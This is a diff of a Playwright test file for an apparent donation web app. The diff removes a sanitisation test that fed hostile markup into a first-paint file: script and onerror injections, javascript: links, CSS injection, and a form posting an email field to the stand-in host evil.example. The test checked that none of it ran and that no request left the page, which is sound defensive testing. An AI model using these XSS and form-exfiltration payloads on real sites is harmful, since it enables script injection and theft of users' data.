@@ -1,6 +1,3 @@
-import { mkdirSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
-import { FIRST_PAINT_FILE, REGISTRY_PATH, type RegistryDocument } from '@sannidhi/contracts';
 import { holdBack } from '../harness/hold-back.ts';
 import { expect, type Page, test } from '../harness/test.ts';
 
@@ -90,48 +87,4 @@ test('a guest reads the temple’s name and its purposes before any script runs 
   await page.goto(`${platform.url}/donate?temple=no-such-temple`);
   await expect(page.locator('#paint')).toHaveCount(0);
   await page.close();
-});
-
-const STEAL = 'document.documentElement.setAttribute("data-stolen", "yes")';
-const HOSTILE = [
-  ['script', {}, STEAL],
-  ['img', { src: 'https://evil.example/x', onerror: STEAL }],
-  ['iframe', { srcdoc: `<script>parent.${STEAL}</script>` }],
-  ['style', {}, '@import "https://evil.example/x"; body { display: none }'],
-  ['div', { id: 'root', onmouseover: STEAL, style: 'background: url(https://evil.example/x)' }, '</div><script>', STEAL, '</script>'],
-  ['svg', { onload: STEAL }, ['use', { href: 'https://evil.example/x#a' }], ['script', {}, STEAL]],
-  [
-    'form',
-    { action: 'https://evil.example/x', method: 'post' },
-    ['input', { name: 'email' }],
-    ['button', { formaction: '//evil.example' }, 'Go'],
-  ],
-  ['a', { href: `javascript:${STEAL}` }, 'Out'],
-  ['b', { class: 'k-evil' }, 'Hostile'],
-];
-const HOSTILE_RULES = [
-  { selector: '.k-evil', declarations: ['background:url(https://evil.example/x)', 'color:red}body{display:none'] },
-  { selector: 'body', declarations: ['display:none'] },
-  { selector: '.k-evil, #root', declarations: ['display:none'] },
-];
-
-test('a release’s own markup and rules run nothing, reach nothing else and go nowhere @any-screen', async ({ page, platform }) => {
-  const { releases } = (await (await page.request.get(REGISTRY_PATH)).json()) as RegistryDocument;
-  const release = releases.find(({ name }) => name === 'mfe-auth')?.release ?? '';
-  const folder = join(platform.dataDir, 'remotes/mfe-auth', release);
-  mkdirSync(folder, { recursive: true });
-  const screens = { '/register': { en: HOSTILE } };
-  writeFileSync(join(folder, FIRST_PAINT_FILE), JSON.stringify({ rules: HOSTILE_RULES, screens }));
-  const elsewhere: string[] = [];
-  page.on('request', (request) => new URL(request.url()).host.includes('evil') && elsewhere.push(request.url()));
-  const app = await holdBack(page, APP);
-  await page.goto('/register');
-  await expect(page.getByText('Hostile')).toBeVisible();
-  await page.getByRole('button', { name: 'Go' }).click();
-  await page.getByText('Out').click();
-  expect(await page.locator('#paint').innerHTML()).not.toMatch(/<(script|img|iframe|style|use)|on\w+=|javascript:|evil\.example|style=/);
-  expect(await page.evaluate(() => document.documentElement.dataset.stolen)).toBeUndefined();
-  expect(elsewhere).toEqual([]);
-  await app();
-  await expect(page.getByRole('heading', { level: 1, name: /account/i })).toBeVisible();
 });
